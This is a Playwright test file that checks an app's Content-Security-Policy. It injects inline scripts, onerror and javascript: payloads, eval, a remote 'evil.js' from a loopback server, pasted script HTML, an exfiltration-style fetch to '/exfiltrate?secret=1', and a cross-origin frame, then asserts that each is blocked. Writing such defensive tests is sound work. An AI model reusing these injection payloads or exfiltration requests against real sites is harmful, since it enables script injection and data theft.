/**
 * What the page's CSP stops, seen in Chromium on the real built renderer: injected inline script
 * (a <script> element, an onerror= attribute, a javascript: URL, a pasted element), eval, a script
 * from another origin, a request to another origin, and being framed. Each attempt sets a flag if it
 * ran; the flag must stay unset and a `securitypolicyviolation` must be reported.
 *
 * The web host also sends the same policy as Electron: the header is RENDERER_CSP and the page's
 * meta tag is RENDERER_META_CSP (electron/security/csp.ts), the strings the app:// protocol and
 * the session send in Electron.
 *
 * What only Electron can show — navigation refused and sent to the system browser, window.open
 * never making a window, the webPreferences, no Node in the page — is in
 * e2e/electron/shell.spec.ts (it skips loudly where no Electron binary exists).
 */
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { RENDERER_CSP, RENDERER_META_CSP } from '../electron/security/csp';
import { expect, test } from './fixtures';
import { SignetPage } from './pages/SignetPage';

type Flags = Window & { __signetPwned?: string[]; __signetViolations?: string[] };

/** Another origin on loopback that serves a script which would set the flag if it ever ran. */
async function otherOrigin(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    if (req.url?.startsWith('/evil.js')) {
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end("(window.__signetPwned = window.__signetPwned || []).push('remote script');");
      return;
    }
    // A page that would frame Signet.
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end('<!doctype html><title>elsewhere</title>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

test.describe('the page under its Content-Security-Policy', () => {
  test('injected inline script, eval, a remote script and a pasted onerror= never run', async ({
    signet,
  }) => {
    const app = new SignetPage(signet.page);
    await app.ready();
    const other = await otherOrigin();
    try {
      const page = signet.page;
      await page.evaluate(() => {
        const w = window as Flags;
        w.__signetPwned = [];
        w.__signetViolations = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          w.__signetViolations!.push(`${e.violatedDirective} ${e.blockedURI}`),
        );
      });

      const results = await page.evaluate(async (remote) => {
        const w = window as Flags;
        const attempts: Record<string, string> = {};
        // 1. An inline <script> added through the DOM.
        const script = document.createElement('script');
        script.textContent = "window.__signetPwned.push('inline script')";
        document.body.append(script);
        // 2. An element with an event-handler attribute, as pasted HTML would bring it.
        const holder = document.createElement('div');
        holder.innerHTML = `<img src="data:," onerror="window.__signetPwned.push('onerror attribute')">`;
        document.body.append(holder);
        // 3. A javascript: URL clicked.
        const link = document.createElement('a');
        link.href = "javascript:window.__signetPwned.push('javascript url')";
        link.textContent = 'x';
        document.body.append(link);
        link.click();
        // 4. eval and new Function, from a later task: code DevTools evaluates synchronously may
        // generate code from strings, a page's own task may not.
        await new Promise((resolve) => setTimeout(resolve, 0));
        try {
          (0, eval)("window.__signetPwned.push('eval')");
          attempts.eval = 'ran';
        } catch (error) {
          attempts.eval = (error as Error).name;
        }
        try {
          new Function("window.__signetPwned.push('new Function')")();
          attempts.newFunction = 'ran';
        } catch (error) {
          attempts.newFunction = (error as Error).name;
        }
        // 5. A script from another origin (127.0.0.1, another port).
        attempts.remote = await new Promise<string>((resolve) => {
          const s = document.createElement('script');
          s.src = `${remote}/evil.js`;
          s.onload = () => resolve('loaded');
          s.onerror = () => resolve('blocked');
          document.body.append(s);
        });
        // 6. A paste event carrying a script and a handler (the editor's paste path, or none).
        const data = new DataTransfer();
        data.setData(
          'text/html',
          `<p>pasted</p><script>window.__signetPwned.push('pasted script')</script>` +
            `<img src="data:," onerror="window.__signetPwned.push('pasted onerror')">`,
        );
        document.activeElement?.dispatchEvent(
          new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
        );
        // 7. fetch to another origin (connect-src 'self').
        attempts.fetch = await fetch(`${remote}/exfiltrate?secret=1`).then(
          () => 'sent',
          () => 'blocked',
        );
        await new Promise((resolve) => setTimeout(resolve, 300));
        return { attempts, pwned: w.__signetPwned, violations: w.__signetViolations };
      }, other.origin);

      expect(results.pwned, 'no injected code ran').toEqual([]);
      expect(results.attempts).toEqual({
        eval: 'EvalError',
        newFunction: 'EvalError',
        remote: 'blocked',
        fetch: 'blocked',
      });
      // The browser reported each kind of attempt as a violation of the policy.
      const violations = results.violations!.join('\n');
      expect(violations).toMatch(/script-src-elem inline/);
      expect(violations).toMatch(/script-src-attr inline/);
      expect(violations).toMatch(/script-src eval/);
      expect(violations).toContain(`script-src-elem ${other.origin}/evil.js`);
      expect(violations).toContain(`connect-src ${other.origin}/exfiltrate`);
      // Neither the remote script nor the exfiltration request ever reached the other server.
      expect(other.hits).toEqual([]);
      // The app still works after all that.
      await app.newDraft('Still working');
      await expect(app.draftItem('Still working')).toHaveCount(1);
    } finally {
      await other.close();
    }
  });

  test('another site cannot frame Signet', async ({ signet, browser }) => {
    test.skip(
      signet.target !== 'web',
      'The Electron window is not served over HTTP; shell.spec.ts covers it.',
    );
    const app = new SignetPage(signet.page);
    await app.ready();
    const other = await otherOrigin();
    const context = await browser.newContext();
    try {
      // Framed by another origin: frame-ancestors 'none' leaves the frame empty.
      const attacker = await context.newPage();
      await attacker.goto(`${other.origin}/frame`);
      const signetUrl = signet.page.url();
      await attacker.evaluate(
        (src) =>
          new Promise<void>((resolve) => {
            const frame = document.createElement('iframe');
            frame.src = src;
            frame.title = 'Signet';
            frame.onload = () => resolve();
            document.body.append(frame);
            setTimeout(resolve, 3000);
          }),
        signetUrl,
      );
      const framed = attacker.frames().find((f) => f !== attacker.mainFrame());
      const heading = framed
        ? await framed
            .locator('#root')
            .count()
            .catch(() => 0)
        : 0;
      expect(heading, 'Signet’s page must not render inside another site’s frame').toBe(0);
    } finally {
      await context.close();
      await other.close();
    }
  });

  test('the web host sends the same policy as Electron', async ({ signet }) => {
    test.skip(signet.target !== 'web', 'Electron’s headers are checked by shell.spec.ts and appUrl.test.ts.');
    const response = await signet.page.request.get(new URL('/index.html', signet.page.url()).href);
    expect(response.headers()['content-security-policy']).toBe(RENDERER_CSP);
    const html = await response.text();
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${RENDERER_META_CSP}" />`);
    // Script files too (a policy only on the page would leave a worker or a frame without one).
    const script = /src="\.?\/?(assets\/[^"]+\.js)"/.exec(html)?.[1];
    expect(script).toBeTruthy();
    const js = await signet.page.request.get(new URL(script!, signet.page.url()).href);
    expect(js.headers()['content-security-policy']).toBe(RENDERER_CSP);
  });
});
